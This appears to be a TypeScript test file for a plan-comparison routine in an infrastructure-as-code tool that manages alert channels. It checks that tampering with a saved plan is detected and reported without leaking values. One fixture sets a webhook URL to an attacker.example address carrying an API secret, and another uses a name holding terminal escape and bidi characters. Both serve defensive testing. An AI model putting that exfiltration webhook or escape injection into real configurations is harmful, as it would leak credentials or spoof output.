// planDifferences: a saved plan against the plan derived again. Equal sets of equal changes pass;
// anything else is named by change and member, never with a value from the file.

import { describe, expect, it } from 'vitest';
import { differingPointers, planDifferences } from '../../src/engine/plan-compare.js';
import type { Change, Plan } from '../../src/model/plan.js';

function change(name: string, over: Partial<Change> = {}): Change {
  return {
    key: `prod/AlertChannel/${name}`,
    action: 'update',
    kind: 'AlertChannel',
    account: 'prod',
    name,
    liveId: `PROD_${name}`,
    after: { type: 'Webhook', data: { webhookUrl: { $env: '${env:HOOK_URL}' } } },
    writeOnly: [],
    sensitive: [],
    dependsOn: [],
    liveDigest: `digest-${name}`,
    ...over,
  };
}

function planOf(changes: Change[]): Plan {
  return {
    formatVersion: 1,
    accounts: [{ name: 'prod', orgAccess: false }],
    changes,
    summary: { create: 0, update: changes.length, replace: 0, delete: 0, unmanaged: 0 },
    unmanaged: [],
    diagnostics: [],
    apiCalls: { total: 0, byBucket: {} },
    budget: [],
  };
}

const derived = planOf([change('a'), change('b')]);

describe('planDifferences', () => {
  it('none for the same changes, whatever their order, their source positions or their audit entries', () => {
    const saved = planOf([change('b', { source: { file: '/elsewhere/channels.yaml', line: 9, column: 1 } }), change('a', { audit: [] })]);
    expect(planDifferences(saved, derived)).toEqual([]);
  });

  it('names a value changed by pointer, never with the value', () => {
    const edited = change('a', { after: { type: 'Webhook', data: { webhookUrl: { $env: 'https://attacker.example/?k=${env:SVC_API_SECRET}' } } } });
    const out = planDifferences(planOf([edited, change('b')]), derived);
    expect(out).toEqual(['update "prod/AlertChannel/a": after differs at /data/webhookUrl/$env']);
    expect(out.join('\n')).not.toContain('SVC_API_SECRET');
  });

  it('names another action, another id, another name', () => {
    expect(planDifferences(planOf([change('a', { action: 'delete' }), change('b', { liveId: 'PROD_x', name: 'bee' })]), derived)).toEqual([
      'update "prod/AlertChannel/a": action is "delete" in the saved plan, "update" when derived again',
      'update "prod/AlertChannel/b": name is "bee" in the saved plan, "b" when derived again',
      'update "prod/AlertChannel/b": liveId is "PROD_x" in the saved plan, "PROD_b" when derived again',
    ]);
  });

  it('a change added to the file and one left out of it: both named (the sets must be equal)', () => {
    const out = planDifferences(planOf([change('a'), change('evil', { action: 'delete' })]), derived);
    expect(out).toEqual([
      'delete "prod/AlertChannel/evil": in the saved plan, but the repository and the live state ask for no such change',
      'update "prod/AlertChannel/b": the repository and the live state ask for it, but the saved plan does not hold it',
    ]);
  });

  it('a member only one side has, and an account the repository does not declare as the plan says', () => {
    const saved = planOf([change('a', { rotate: true }), change('b')]);
    saved.accounts = [{ name: 'prod', orgAccess: true }, { name: 'shadow', orgAccess: false }];
    expect(planDifferences(saved, derived)).toEqual([
      'account "prod": its settings in the saved plan differ from the repository\'s (/orgAccess)',
      'account "shadow" is in the saved plan, but the repository does not declare it',
      'update "prod/AlertChannel/a": rotate differs (not in the derived plan)',
    ]);
  });

  it('quotes names, so control characters, bidi overrides and zero-width characters in an edited file stay escaped', () => {
    const out = planDifferences(planOf([change('a'), change('b'), change('x\u001b]8;;evil\u0007\nline\u202e\u200b\u009b"q')]), derived);
    expect(out).toEqual(['update "prod/AlertChannel/x\\x1b]8;;evil\\x07\\nline\\u202e\\u200b\\x9b\\"q": in the saved plan, but the repository and the live state ask for no such change']);
  });
});

describe('differingPointers', () => {
  it('lists the pointers where two JSON values differ, escaping ~ and /', () => {
    expect(differingPointers({ a: 1, b: [1, 2], 'c/d': { '~': 1 } }, { a: 1, b: [1, 3], 'c/d': { '~': 2 } })).toEqual(['/b/1', '/c~1d/~0']);
    expect(differingPointers([1], [1, 2])).toEqual(['']);
    expect(differingPointers({ a: 1 }, { a: 1 })).toEqual([]);
    expect(differingPointers(1, '1')).toEqual(['']);
  });
});
